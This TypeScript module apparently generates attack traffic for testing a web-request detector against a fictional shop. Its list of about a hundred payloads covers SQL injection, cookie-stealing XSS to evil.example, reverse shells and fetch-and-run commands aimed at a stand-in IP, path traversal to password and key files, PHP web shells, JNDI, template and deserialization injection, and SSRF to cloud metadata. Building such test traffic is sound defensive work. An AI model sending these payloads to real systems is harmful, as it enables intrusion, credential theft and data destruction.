import type { MadeRequest } from './honest-traffic.ts';

/** Attacks on the site of the honest traffic: each payload in two places of it. */
export function attackTraffic(): MadeRequest[] {
  return PAYLOADS.flatMap((payload, index) =>
    [0, 1].map((turn) => {
      const at = (index * 2 + turn * 7) % PLACES.length;
      const { method = 'POST', target, body = '', type = '', cookie = '' } = (PLACES[at] as Place)(payload);
      const fields = ['host', 'www.shop.example', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64)', 'accept', '*/*'];
      if (cookie !== '') fields.push('cookie', cookie);
      if (body !== '') fields.push('content-type', type, 'content-length', String(Buffer.byteLength(body)));
      return { id: `attack-${index}-${turn}`, method, target, fields, body };
    }),
  );
}

type Place = (payload: string) => Partial<MadeRequest> & {
  readonly target: string;
  readonly type?: string;
  readonly cookie?: string;
};

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';
const form = (target: string, pairs: Readonly<Record<string, string>>): ReturnType<Place> => ({
  target,
  body: new URLSearchParams(pairs).toString(),
  type: FORM,
});
const json = (target: string, value: unknown): ReturnType<Place> => ({
  target,
  body: JSON.stringify(value),
  type: JSON_TYPE,
});
const get = (target: string, cookie = ''): ReturnType<Place> => ({ method: 'GET', target, cookie });

const PLACES: readonly Place[] = [
  (payload) => get(`/search?q=${encodeURIComponent(payload)}`),
  (payload) => form('/account/login', { user: payload, password: 'x' }),
  (payload) => json('/api/tickets', { subject: 'help', description: payload, priority: 'low', log: '' }),
  (payload) => form('/wiki/pages/home', { title: 'home', content: payload, summary: 'typo' }),
  (payload) => get(`/files/download?name=${encodeURIComponent(payload)}`),
  (payload) => get(`/api/items?id=${encodeURIComponent(payload)}`),
  (payload) => json('/api/orders', { customer: { name: payload, email: 'a@b.example' }, items: [], coupon: null }),
  (payload) => form('/account/profile', { name: 'x', bio: payload, website: '', address: '' }),
  (payload) => get('/', `session=${encodeURIComponent(payload)}`),
  (payload) => form('/wiki/pages/home', { title: payload, content: 'x', summary: 'typo' }),
  (payload) => form('/account/feedback', { stars: '1', comment: payload }),
  (payload) => json('/api/tickets/7/comments', { text: payload, internal: false }),
  (payload) => get(`/t?u=${encodeURIComponent(payload)}&t=1`),
];

/** A hundred. */
const PAYLOADS: readonly string[] = [
  // SQL
  "1' or 1=1#",
  "x' AND 'a'='a' UNION ALL SELECT NULL,NULL,@@version-- -",
  '1 UNION/**/SELECT/**/card_number,cvv/**/FROM/**/payments',
  "1'; EXEC master..xp_cmdshell 'net user'; --",
  "1' AND SLEEP(9)-- -",
  "1'; WAITFOR DELAY '0:0:9'--",
  '1) OR BENCHMARK(9000000,MD5(1))-- -',
  "' UNION SELECT table_name, 2 FROM information_schema.tables WHERE 't'='t",
  "a'||(SELECT password FROM users LIMIT 1)||'",
  "1' AND (SELECT COUNT(*) FROM sysobjects)>0--",
  "1' ORDER BY 12-- -",
  "1' GROUP BY card HAVING 1=1--",
  "'; INSERT INTO admins(name) VALUES('eve');--",
  "'; UPDATE users SET role='admin' WHERE name='eve';--",
  "' OR pg_sleep(9)--",
  "1' PROCEDURE ANALYSE(EXTRACTVALUE(9,CONCAT(0x5c,VERSION())),1)-- -",
  "1' INTO OUTFILE '/var/www/s.php'-- -",
  "1' AND LOAD_FILE('/etc/passwd')-- -",
  "-1' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns#",
  "1' RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))-- -",
  "x'; DROP DATABASE shop; --",
  "1' AND ASCII(SUBSTRING((SELECT user()),1,1))>64-- -",
  // cross-site scripting
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>document.location="//evil.example/?"+document.cookie</sCrIpT>',
  '<img src="x" onerror="eval(atob(`YWxlcnQoMSk=`))">',
  '<body onload=alert(document.domain)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=confirm(1)>',
  '<a href="javascript:alert(document.cookie)">x</a>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src="javascript:alert(1)">',
  '"><script>new Image().src="//evil.example/"+document.cookie</script>',
  "'-alert(document.cookie)-'",
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<form action="javascript:alert(1)"><button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/"><script src="x.js"></script>',
  '<style>@import "//evil.example/x.css";</style><script>alert(2)</script>',
  '<x onclick=alert(1) style="position:fixed;top:0">click</x>',
  // commands
  '; nc -e /bin/sh 198.51.100.9 4444',
  '| cat /etc/shadow',
  '&& curl -o /dev/shm/x http://evil.example/x && sh /dev/shm/x',
  '$(cat /etc/passwd | base64)',
  '`wget -qO- http://evil.example/p`',
  '; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
  '|| python -c "import socket,subprocess,os"',
  '; perl -e \'use Socket;exec("/bin/sh -i")\'',
  '; rm -rf /var/www; ls -la /',
  '| tftp -i 198.51.100.9 GET nc.exe',
  '& type C:\\Windows\\System32\\drivers\\etc\\hosts',
  '; uname -a; id; whoami; cat /etc/issue',
  '; /usr/bin/env bash -c "cat /etc/passwd"',
  '\x24{IFS}cat\x24{IFS}/etc/passwd;id',
  '| powershell -NoP -NonI -W Hidden -Exec Bypass -Command IEX(1)',
  "; cat$IFS/et'c'/passwd; wget http://evil.example/a",
  // paths
  '../../../../../../etc/shadow',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//....//etc/passwd',
  '/var/www/../../etc/passwd',
  '..\\..\\..\\..\\boot.ini',
  '/etc/passwd%00.jpg',
  '../../../../proc/self/cmdline',
  '../../../../root/.ssh/id_rsa',
  '../../WEB-INF/web.xml',
  '../../../.env',
  '../../.git/config',
  'file:///c:/windows/win.ini',
  // files and code
  'http://198.51.100.9/r57.txt?',
  'php://input',
  'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==',
  'expect://id',
  'phar://uploads/a.jpg/x',
  'ftp://evil.example/shell.php',
  '<?php eval(base64_decode($_POST["x"])); ?>',
  '<?= `$_GET[0]` ?>',
  'eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));',
  'system("id"); passthru($_GET["c"]);',
  'assert($_REQUEST["c"]); file_put_contents("s.php","x");',
  'O:11:"PumpkinKing":1:{s:4:"exec";s:10:"phpinfo();";}',
  '\x24{jndi:rmi://evil.example:1099/x}',
  '\x24{\x24{lower:j}ndi:\x24{lower:l}dap://evil.example/x}',
  '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}',
  '\x24{T(java.lang.Runtime).getRuntime().exec("calc")}',
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x;java.lang.Runtime',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  '{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
  "require('child_process').exec('id')",
  'this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")',
  '{"__proto__":{"polluted":1}} constructor.prototype',
  'process.binding("spawn_sync"); global.process.mainModule',
  '() { ignored; }; echo vulnerable; /bin/cat /etc/passwd',
  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  // fields and requests
  'x\r\nSet-Cookie: session=evil\r\n',
  'x\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
];
